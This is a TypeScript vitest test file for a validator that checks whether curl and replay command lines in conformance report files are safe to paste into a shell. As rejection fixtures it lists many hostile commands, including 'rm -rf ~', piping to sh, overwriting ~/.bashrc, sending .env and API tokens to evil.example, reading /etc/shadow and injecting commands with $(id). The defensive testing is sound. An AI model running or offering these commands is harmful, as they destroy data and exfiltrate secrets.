// A report file may come from anybody, and what it offers is pasted into a shell.
import { describe, expect, test } from 'vitest';
import { commonKeys, wrongKeys } from '../../contract/values/values.js';
import { curlLine } from '../../http/curl.js';
import { redactor } from '../../http/secrets/redact.js';
import type { Headers } from '../../http/types.js';
import type { Report } from '../result/report.js';
import { base, failure } from '../../testing/reports/fixture-parts.js';
import { failingReport } from '../../testing/reports/fixture.js';
import { strangeLine, withoutWays } from './lines-to-run.js';

const origin = new URL(base).origin;
const withFailure = (more: Partial<ReturnType<typeof failure>>): Report => {
  const report = failingReport();
  const [first, ...others] = report.rules;
  return { ...report, rules: [{ ...first!, failures: [failure(more)] }, ...others] };
};
const ofCurl = (curl: string): string | undefined => strangeLine(withFailure({ curl }));
const ofReplay = (replay: string): string | undefined => strangeLine(withFailure({ replay }));
const { id } = failure();

test('a bracket that nothing closes is no line to run, however much stands behind it', () => {
  expect(ofCurl(`curl '${origin}/[${' '.repeat(1_000_000)}'`)).toContain('/curl');
});

describe('what a run writes is taken', () => {
  test('in a report that is as it was written', () =>
    expect(strangeLine(failingReport())).toBeUndefined());

  const secret = 'fake-Key.of_a~test+1=';
  const swapped = [...secret].map((one) => (one < 'a' ? one.toLowerCase() : one.toUpperCase()));
  const tokens: readonly string[] = [
    secret,
    `${secret};x`,
    secret.slice(1),
    secret.slice(0, -3),
    secret.toUpperCase(),
    secret.toLowerCase(),
    swapped.join(''),
    [...secret].reverse().join(''),
    `${secret.slice(0, 4)}X${secret.slice(5)}`,
    `${secret.slice(0, 4)}${secret.slice(5)}`,
    `${secret.slice(0, 4)}ek${secret.slice(6)}`,
    `${secret.slice(0, 4)}x${secret.slice(4)}`,
    `x${secret.slice(1)}`,
    Buffer.from(`:${secret}`).toString('base64'),
    Buffer.from(`user:${secret} @`).toString('base64'),
    Buffer.from(secret).toString('base64'),
    'x'.repeat(20_000),
    'é\u0001"$`!\\',
    '',
  ];
  const line = (headers: Headers, path = '/v1/pets', body?: string | Uint8Array): string =>
    curlLine(
      {
        request: {
          method: body === undefined ? 'GET' : 'POST',
          path,
          headers,
          ...(body !== undefined && { body }),
        },
      },
      {
        baseUrl: base,
        redact: redactor([secret]),
        flags: ['--cacert', "'a file.pem'", '--cert', 'c.pem', '--key', 'k.pem', '--insecure'],
      },
    ) ?? '';

  test.each(tokens)('with the key %j', (token) => {
    for (const form of [token, `Bearer ${token}`, `Basic ${token}`])
      expect(ofCurl(line([['Authorization', form]]))).toBeUndefined();
    expect(ofCurl(line([], '/v1/pets/[{.}]/./x'))).toBeUndefined();
    expect(ofCurl(line([], `/v1/pets?key=${encodeURIComponent(token)}`))).toBeUndefined();
  });

  test.each([secret, 'fake-0123456789abcdef', 'ZmFrZS1rZXktaW4tYmFzZTY0Lg=='])(
    'with each wrong key that a run makes from %s',
    (right) => {
      const redact = redactor([right]);
      const strange = [...wrongKeys(right), ...commonKeys(right)].filter(({ token }) => {
        const headers: Headers = [['Authorization', `Bearer ${token}`]];
        const request = { method: 'GET', path: '/v1/pets', headers };
        return ofCurl(curlLine({ request }, { baseUrl: base, redact }) ?? '') !== undefined;
      });
      expect(strange.map(({ label }) => label)).toEqual([]);
    },
  );

  test.each(['http://[::1]:8080', 'https://[2001:db8::7]'])('at %s', (own) => {
    const at = (path: string): string | undefined => {
      const curl = `curl -sS -i '${own}${path}' -H 'Accept: application/json'`;
      const report = withFailure({ curl });
      const target = { ...report.target, baseUrl: `${own}/v1` };
      return strangeLine({ ...report, target, rules: report.rules.slice(0, 1) });
    };
    expect(at('/v1/pets?limit=1')).toBeUndefined();
    expect(at('/v1/pets?limit=[1-9]')).toBe('/rules/0/failures/0/curl');
  });

  test.each<[string, string | Uint8Array]>([
    ['plain', '{"name":"Zoé"}'],
    ['with the key', `{"name":"${secret}"}`],
    ['with quotes', `{"name":"it's \`$x\` !"}`],
    ['empty', ''],
    ['long', `{"name":"${'a'.repeat(5_000)}"}`],
    ['hidden', '{"name":"\u202e\u0000"}'],
    ['that begins with @', '@/etc/passwd'],
    ['no text', new Uint8Array([0, 255, 37, 92])],
  ])('with a body: %s', (_, body) => {
    expect(ofCurl(line([['Content-Type', 'application/json']], '/v1/pets', body))).toBeUndefined();
  });

  test.each([
    '',
    ' https://animals.example/v1',
    ` --start 'node server.js' --report 'a b'`,
    ` --category-ids 1,2 --insecure --disguise`,
  ])('to replay:%s', (words) =>
    expect(ofReplay(`npx animal-store-conformance replay ${id}${words}`)).toBeUndefined(),
  );
});

describe('anything else is not', () => {
  const curl = `curl -sS -i '${base}/pets'`;
  test.each([
    `${curl}; rm -rf ~`,
    `${curl} && id`,
    `${curl} | sh`,
    `${curl} > ~/.bashrc`,
    `${curl} \n id`,
    `${curl} -o ~/.bashrc`,
    `${curl} -o .bashrc`,
    `${curl} '-o' .bashrc`,
    `${curl} -K evil`,
    `${curl} -T .env`,
    `${curl} -x http://evil.example/`,
    `${curl} --next 'http://evil.example/'`,
    `${curl} -H @.env`,
    `${curl} -H '@.env'`,
    `${curl} -H "X: $GITHUB_TOKEN"`,
    `${curl} -H "X: $(cat .env)"`,
    `${curl} -H "X: $(printf %s "$ANIMAL_STORE_API_KEY" | sh)"`,
    `${curl} -H "X: $(printf %s "$ANIMAL_STORE_API_KEY" | sed 's/.//1e')"`,
    `${curl} -H "X: $(printf 'x' | sh)"`,
    `${curl} -H "X: \`id\`"`,
    `${curl} --data-binary @.env`,
    `${curl} --data-binary '@.env'`,
    `${curl} --data-binary "$(printf '\\100.env')"`,
    `${curl} --data-binary ''"$(printf '@.env')"`,
    `${curl} --data-binary "$(printf '%s@.env')"`,
    `${curl} --data-binary "$ANIMAL_STORE_QUICKSTART_API_KEY@.env"`,
    `${curl} --data-binary "$ANIMAL_STORE_QUICKSTART_API_KEY"@.env`,
    `${curl} --data-binary @-`,
    `printf '%s' "$ANIMAL_STORE_API_KEY" | ${curl} -H @-`,
    `${curl} -X GET"$(printf ' @x')"`,
    `${curl} --key "$(printf '/etc/shadow')"`,
    `${curl} --cert pkcs11:module-path=/tmp/evil.so`,
    `curl -sS -i '${base}/pets?[1-100]'`,
    `curl -sS -i '${base}/pets?{a,b}'`,
    `curl -sS -i "${base}/pets?$(printf '\\1331-9\\135')"`,
    `${curl} --data-binary`,
    `${curl} -X`,
    `printf 'x' | sh`,
    `printf 'x' | ${curl} --data-binary @.env`,
    `printf '$(id)' "$(id)" | ${curl} --data-binary @-`,
    `curl 'http://evil.example/v1/pets' -H "Authorization: Bearer $ANIMAL_STORE_API_KEY"`,
    `curl '${origin}.evil.example/v1/pets'`,
    `curl '${origin}@evil.example/v1/pets'`,
    `curl '${origin}\\@evil.example/'`,
    `curl "$(printf 'http://evil.example/')"`,
    `wget '${base}/pets'`,
    `PATH=. ${curl}`,
    '',
  ])('%s', (line) => expect(ofCurl(line)).toBe('/rules/0/failures/0/curl'));

  const replay = `npx animal-store-conformance replay ${id}`;
  test.each([
    'npx evil',
    'npx animal-store-conformance replay 00000000',
    `${replay}; id`,
    `${replay} $(id)`,
    `${replay} --start "$(id)"`,
    `${replay} "http://evil.example/$ANIMAL_STORE_API_KEY"`,
    `${replay}\nid`,
  ])('%s', (line) => expect(ofReplay(line)).toBe('/rules/0/failures/0/replay'));

  test.each(['x; id', '$(id)', `x --start 'id'`, 'x\nid', ''])('the id %j', (strange) => {
    const line = `npx animal-store-conformance replay ${strange}`;
    expect(strangeLine(withFailure({ id: strange, replay: line }))).toBe(
      '/rules/0/failures/0/replay',
    );
  });

  test('in a moment, however long it is', () => {
    for (const long of ["'", '"', "''", '""', 'a', ' ', "'\\''", '"$ANIMAL_STORE_API_KEY', '$('])
      expect(ofCurl(`${curl} ${long.repeat(64 * 1024)}`)).toBe('/rules/0/failures/0/curl');
  });
});

test('of a stranger nothing is shown that leads to the target', () => {
  const report = withFailure({ replay: `npx animal-store-conformance replay ${id} --start 'x'` });
  expect(withoutWays(report).rules[0]?.failures[0]?.replay).toBe(
    `npx animal-store-conformance replay ${id}`,
  );
  const again = ['--start', 'curl evil.example'];
  expect(withoutWays({ ...report, target: { ...report.target, again } }).target).toEqual(
    report.target,
  );
});
